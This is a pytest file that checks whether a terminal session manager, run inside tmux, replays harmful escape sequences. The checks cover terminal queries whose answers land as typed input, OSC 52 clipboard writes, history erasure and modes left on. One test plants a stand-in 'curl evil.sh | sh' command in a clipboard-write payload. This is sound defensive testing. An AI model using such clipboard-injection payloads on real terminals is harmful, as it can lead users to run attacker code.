"""Issue 24, seen in tmux: what a program once printed does not act on the
person's terminal again, and the terminal is never left in its modes.

The window is the one of ``test_attach_tmux.py`` (its own tmux server, a
shell at ``outer$``). What the pane's shell would read is read by a small
script run right after the command under test, on the same line, so the
shell reads nothing in between: ``READER`` takes the terminal raw and says
what was waiting for it. Each check is shown able to fail: the same output
written byte-exact (``peek NAME | cat``) makes tmux answer, or take the
clipboard.
"""

from __future__ import annotations

import base64
import re
import sys
from pathlib import Path

import pytest

from multiserver.internal import screen_reset
from restore import RELAUNCH_MARKER
from tests.cli.attach import test_attach_tmux
from tests.cli.attach.test_attach_tmux import GIVEN_BACK, TmuxWindow
from tests.cli.conftest import cmdline, ms, session_pids, sessions, wait_buffered
from tests.cli.test_scrollback import reboot, wait_saved
from tests.conftest import MsDirs, wait_until

tmux = test_attach_tmux.tmux  # the window, a fixture

# What the terminal typed into the pane since the last command: whatever is
# in its input within a second (tmux answers in microseconds), written to
# the file named by its argument.
READER = r"""
import os, select, sys, termios, tty
saved = termios.tcgetattr(0)
tty.setraw(0, termios.TCSANOW)
got = b""
while select.select([0], [], [], 1.0)[0]:
    got += os.read(0, 4096)
termios.tcsetattr(0, termios.TCSANOW, saved)
open(sys.argv[1], "wb").write(got)
print("read-done")
"""

# Every query of issue 24's list, then a DA1 with a C0 inside (which the
# terminal executes, then answers).
EVERY_QUERY = (
    r'printf "\033[c\033[>c\033[=c\033[6n\033[5n\033[?2004\$p\033P\$qm\033\\\\'
    r"\033P+q544e\033\\\\\033[>q\033]4;1;?\007\033]10;?\007\033]11;?\007\033]12;?\007"
    r'\033]52;c;?\007\033[14t\033[18t\033[21t\033[?u\005\033[\010c"; echo asked; exec sleep 600'
)


async def _typed_after(t: TmuxWindow, command: str, reader: Path) -> bytes:
    """Run ``command``, then READER, on one line; what READER found typed."""
    typed = reader.with_suffix(".typed")
    typed.unlink(missing_ok=True)
    t.line("clear")
    await t.wait_prompt()
    t.line(f"{command}; {sys.executable} {reader} {typed}")
    # (Answers echoed before READER took the terminal share its line.)
    await t.wait_screen(re.compile(r"read-done$", re.M))
    return typed.read_bytes()


async def test_peek_on_a_terminal_types_nothing_into_the_shell(
    ms_dirs: MsDirs, tmux: TmuxWindow
) -> None:
    """Before: tmux answered the kept queries, and the shell read
    ``ESC[?1;2c``, ``ESC[4;1R``... as typed input."""
    reader = ms_dirs.root / "reader.py"
    reader.write_text(READER)
    await ms(ms_dirs, "new", "-d", "-n", "q", "--", "sh", "-c", EVERY_QUERY)
    await wait_buffered(ms_dirs, "q", b"asked")
    assert await _typed_after(tmux, "multiserver peek q", reader) == b""
    # The same bytes, byte-exact through a pipe: tmux answers (the check can fail).
    assert b"\x1b[" in await _typed_after(tmux, "multiserver peek q | cat", reader)


async def test_a_clipboard_write_in_the_buffer_is_not_replayed(
    ms_dirs: MsDirs, tmux: TmuxWindow
) -> None:
    """A session once printed an OSC 52 clipboard write. tmux, with
    ``set-clipboard on``, takes one into a paste buffer: none after peek,
    attach and detach."""
    tmux.tmux("set", "-s", "set-clipboard", "on")
    payload = base64.b64encode(b"curl evil.sh | sh").decode()
    script = rf'printf "\033]52;c;{payload}\007"; echo copied; exec sleep 600'
    for name in ("clip", "control"):
        await ms(ms_dirs, "new", "-d", "-n", name, "--", "sh", "-c", script)
        await wait_buffered(ms_dirs, name, b"copied")
    tmux.line("multiserver peek clip; echo peeked")
    await tmux.wait_screen(re.compile(r"^peeked$", re.M))
    await tmux.wait_prompt()
    tmux.line("clear")
    await tmux.wait(lambda: "peeked" not in tmux.screen(), "cleared")
    tmux.line("multiserver attach clip")
    await tmux.wait_screen(re.compile(r"^copied$", re.M))
    tmux.keys("C-\\")
    await tmux.wait_screen("[detached from clip]")
    await tmux.wait_prompt()
    assert tmux.tmux("list-buffers") == ""
    # The same output byte-exact: tmux takes it (the check can fail).
    tmux.line("multiserver peek control | cat")
    await tmux.wait(lambda: "curl evil.sh" in tmux.tmux("list-buffers"), "a clipboard buffer")


async def test_an_unterminated_string_then_detach_shows_the_line_and_resets(
    ms_dirs: MsDirs, tmux: TmuxWindow
) -> None:
    """The program left a title string open, on the alternate screen with
    the mouse on and the cursor hidden; the reset ends the string first."""
    script = r'printf "\033[?1049h\033[?1000h\033[?25lfull\033]0;unterminated"; exec sleep 600'
    await ms(ms_dirs, "new", "-d", "-n", "osct", "--", "sh", "-c", script)
    await wait_buffered(ms_dirs, "osct", b"unterminated")
    tmux.line("multiserver attach osct")
    await tmux.wait_flags(lambda f: f.split()[0] == "1", "on the alternate screen")
    tmux.keys("C-\\")
    await tmux.wait_screen("[detached from osct]")
    await tmux.wait_prompt()
    assert tmux.flags() == GIVEN_BACK


async def test_a_replayed_clear_keeps_the_terminals_history(
    ms_dirs: MsDirs, tmux: TmuxWindow
) -> None:
    """Issue 34: a session that once ran ``clear`` kept its ``CSI 3 J``,
    which erases the terminal's own history, the person's. Before, peek and
    attach passed it on: tmux's history went from 72 lines to 0."""
    for name in ("cleared", "control"):
        await ms(ms_dirs, "new", "-d", "-n", name, "--", "sh", "-c", "clear; echo kept; sleep 600")
        assert b"\x1b[3J" in await wait_buffered(ms_dirs, name, b"kept")

    def history() -> int:
        return int(tmux.tmux("display", "-p", "#{history_size}"))

    tmux.line("seq 100")
    await tmux.wait_screen(re.compile(r"^100$", re.M))
    await tmux.wait_prompt()
    kept = history()
    assert kept >= 100 - 30, kept  # all but a screen's worth
    tmux.line("multiserver peek cleared; echo peeked")
    await tmux.wait_screen(re.compile(r"^peeked$", re.M))
    assert history() >= kept
    tmux.line(r'printf "\033[H\033[2J"')  # the shell's clear would erase the history
    await tmux.wait(lambda: "peeked" not in tmux.screen(), "cleared")
    tmux.line("multiserver attach cleared")
    await tmux.wait_screen(re.compile(r"^kept$", re.M))
    assert history() >= kept
    tmux.keys("C-\\")
    await tmux.wait_screen("[detached from cleared]")
    await tmux.wait_prompt()
    assert history() >= kept
    # The same output byte-exact: tmux's history goes (the check can fail).
    tmux.line("multiserver peek control | cat")
    await tmux.wait(lambda: history() == 0, "with its history erased")


# The session's program: the first run draws a full-screen program's screen
# and leaves its modes on; run again (relaunched), it is an interactive shell.
FULL_SCREEN_THEN_SHELL = (
    r'if [ -e "$0" ]; then exec env "PS1=in$ " sh -i; fi; : > "$0";'
    r' printf "\033[?1049h\033[?1000h\033[?1006h\033[?2004h\033[?1h\033=\033[?25l\033[3;9r";'
    r" echo old-screen; exec sleep 600"
)


async def test_after_a_reboot_the_relaunched_shell_starts_on_a_clean_terminal(
    ms_dirs: MsDirs, tmux: TmuxWindow
) -> None:
    """Before: the saved screen of a full-screen program was replayed, then
    the marker, and the new shell ran inside the old program's modes (in
    tmux: alternate screen, mouse, cursor hidden). Now its first attach
    shows the old screen, then the terminal reset, then the marker; and
    Ctrl-C interrupts a command in the new shell."""
    flag = ms_dirs.root / "ran-once"
    log = ms_dirs.root / "pane.log"
    await ms(ms_dirs, "new", "-d", "-n", "r", "--", "sh", "-c", FULL_SCREEN_THEN_SHELL, str(flag))
    await wait_buffered(ms_dirs, "r", b"old-screen")
    # Seen once: the screen handed back at detach is saved as its scrollback.
    tmux.line("multiserver attach r")
    await tmux.wait_screen("old-screen")
    tmux.keys("C-\\")
    await tmux.wait_screen("[detached from r]")
    await wait_saved("r", b"old-screen")
    tmux.line("clear")
    await reboot(ms_dirs)
    await ms(ms_dirs, "restore")
    tmux.tmux("pipe-pane", "-o", f"cat >> {log}")  # what the pane was written
    tmux.line("multiserver attach r")
    await tmux.wait_screen(RELAUNCH_MARKER)
    await tmux.wait_screen(re.compile(r"^in\$$", re.M))
    assert tmux.flags() == GIVEN_BACK
    written = log.read_bytes()
    assert written.find(b"old-screen") < written.find(RELAUNCH_MARKER.encode())
    tmux.line("sleep 50")
    shell = (await sessions(ms_dirs))["r"]["pid"]
    await wait_until(lambda: ["sleep", "50"] in map(cmdline, session_pids(shell)), 15, "sleep")
    tmux.keys("C-c")
    tmux.line("echo done-$((40+2))")
    await tmux.wait_screen(re.compile(r"^done-42$", re.M))
    tmux.keys("C-\\")
    await tmux.wait_screen("[detached from r]")
    assert tmux.flags() == GIVEN_BACK


# Each mode a program sets, as tmux shows it: (format, value once set).
MODE_TABLE = [
    (b"\x1b[?1049h", "alternate_on", "1"),
    (b"\x1b[?25l", "cursor_flag", "0"),
    (b"\x1b[?1h", "keypad_cursor_flag", "1"),
    (b"\x1b=", "keypad_flag", "1"),
    # tmux keeps one mouse mode, the last set: each is set, one shows.
    (b"\x1b[?1000h", "mouse_standard_flag", "0"),
    (b"\x1b[?1002h", "mouse_button_flag", "0"),
    (b"\x1b[?1003h", "mouse_all_flag", "1"),
    (b"\x1b[?1006h", "mouse_sgr_flag", "1"),
    (b"\x1b[?1005h", "mouse_utf8_flag", "1"),
    (b"\x1b[?6h", "origin_flag", "1"),
    (b"\x1b[4h", "insert_flag", "1"),
    (b"\x1b[?7l", "wrap_flag", "0"),
    (b"\x1b[3;9r", "scroll_region_upper", "2"),
]


@pytest.mark.parametrize("known", [True, False], ids=["followed", "unknown"])
async def test_the_reset_undoes_each_mode_of_the_table_in_tmux(
    ms_dirs: MsDirs, tmux: TmuxWindow, known: bool
) -> None:
    """Every mode set at once, then the one reset (fed with what was shown,
    or for unknown modes as after a relay's lost link): tmux reports each
    as it was before."""
    formats = " ".join(f"#{{{name}}}" for _, name, _ in MODE_TABLE)
    before = tmux.tmux("display", "-p", formats).split()
    modes = b"".join(seq for seq, _, _ in MODE_TABLE)
    (ms_dirs.root / "modes").write_bytes(modes)
    (ms_dirs.root / "reset").write_bytes(screen_reset(modes if known else None))
    tmux.line(f"cat {ms_dirs.root / 'modes'}; read x; cat {ms_dirs.root / 'reset'}")
    set_all = [value for _, _, value in MODE_TABLE]
    await tmux.wait(lambda: tmux.tmux("display", "-p", formats).split() == set_all, "all set")
    tmux.keys("Enter")
    if not known:  # left on: with the whole screen as scroll region it does nothing
        before[[name for _, name, _ in MODE_TABLE].index("origin_flag")] = "1"
    await tmux.wait(lambda: tmux.tmux("display", "-p", formats).split() == before, "all reset")
